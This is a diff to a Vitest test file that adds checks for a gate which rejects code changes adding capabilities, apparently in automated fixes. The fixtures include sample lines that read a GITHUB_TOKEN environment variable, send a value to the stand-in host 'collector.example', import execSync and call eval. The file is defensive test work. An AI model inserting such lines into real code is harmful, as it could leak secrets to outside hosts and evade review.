@@ -1,5 +1,12 @@
 import { describe, expect, it } from 'vitest';
-import { checkGates, type GateInput, isTestFile, testShape, testWeakening } from '../src/gates.ts';
+import {
+  checkGates,
+  findAddedCapabilities,
+  type GateInput,
+  isTestFile,
+  testShape,
+  testWeakening,
+} from '../src/gates.ts';
 
 const ok: GateInput = {
   changedFiles: ['src/a.ts', 'src/b.ts'],
@@ -163,5 +170,52 @@ describe('gates on tests', () => {
     ['src/a.ts', false],
   ])('isTestFile(%s) is %s by convention', (file, expected) => {
     expect(isTestFile(file, [])).toBe(expected);
+  });
+});
+
+describe('gates on what a fix never needs', () => {
+  const before =
+    'export function retry(n: number): number {\n  // TODO: read the limit from the environment\n  return n;\n}\n';
+
+  it.each([
+    ['an environment read', 'const limit = Number(process.env.GITHUB_TOKEN);', 'environment'],
+    ['an environment read by index', "const t = process['env'].TOKEN;", 'environment'],
+    ['a network call', "void fetch('https://collector.example/?t=' + n);", 'network'],
+    ['a network module', "import { request } from 'node:https';", 'network'],
+    ['a required network module', "const net = require('net');", 'network'],
+    ['a process', "import { execSync } from 'child_process';", 'process'],
+    ['eval', "eval('n');", 'eval'],
+    ['a string turned into code', "new Function('return 1')();", 'eval'],
+  ] as const)('refuses a change that adds %s', (_what, line, kind) => {
+    const after = before.replace('  return n;', `  ${line}\n  return n;`);
+    const added = findAddedCapabilities('src/retry.ts', before, after);
+    expect(added).toEqual([{ file: 'src/retry.ts', kind, added: 1 }]);
+    const violations = checkGates({
+      changedFiles: ['src/retry.ts'],
+      allowedFiles: ['src/retry.ts'],
+      diffLines: 1,
+      maxDiffLines: 400,
+      addedCapabilities: added,
+    });
+    expect(violations).toHaveLength(1);
+    expect(violations[0]?.gate).toBe('capability_added');
+    expect(violations[0]?.detail).toMatch(/^src\/retry\.ts: adds .+ \(1\)$/);
+  });
+
+  it('leaves alone what was there before, what goes away, comments and lookalikes', () => {
+    const uses = "const t = process.env.HOME;\nexport const get = () => fetch('/x');\n";
+    expect(findAddedCapabilities('a.ts', uses, `${uses}export const y = 1;\n`)).toEqual([]);
+    expect(findAddedCapabilities('a.ts', uses, 'export const y = 1;\n')).toEqual([]);
+    expect(
+      findAddedCapabilities('a.ts', 'x;\n', '// process.env.X and fetch(url)\n/* eval(x) */\nx;\n'),
+    ).toEqual([]);
+    expect(
+      findAddedCapabilities(
+        'a.ts',
+        'x;\n',
+        "import { env } from './env';\nthis.fetcher(1);\nprefetch(2);\nx;\n",
+      ),
+    ).toEqual([]);
+    expect(findAddedCapabilities('a.ts', 'x;\n', null)).toEqual([]);
   });
 });
